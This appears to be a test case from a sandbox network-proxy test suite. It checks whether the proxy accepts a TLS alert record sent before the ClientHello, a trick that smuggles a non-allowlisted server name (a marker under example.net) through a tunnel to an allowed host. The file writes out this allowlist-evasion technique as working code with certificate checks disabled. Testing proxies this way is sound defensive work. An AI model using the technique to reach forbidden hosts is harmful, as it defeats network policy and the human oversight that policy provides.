# /// attack
# guarantee = "network"
# summary = "Sends another record before its first message of TLS, with another name in it."
# reference = "RFC 8446, 5.1"
# success = "the server hears the other name"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:443", "example.org:8443"] } }
# refusal = { default = "proxy must begin with a ClientHello" }
# ///

import ssl

from kit import has_proxy, refused, succeeded, target, tunnel


def hello(name):
    """Return a TLS object for ``name`` with its two ends, behind its first message."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(into, out, server_hostname=name)
    step(tls)
    return tls, into, out


def step(tls):
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass


sock = tunnel("example.org")
first = b"\x15\x03\x01\x00\x02\x01\x5a" if has_proxy() else b""  # a warning that some servers skip
try:
    sock.sendall(first + hello(f"{target('MARKER')}.example.net")[2].read())
    if sock.recv(1) == b"\x16":
        succeeded()
except OSError as error:
    refused(error)
refused("an alert")
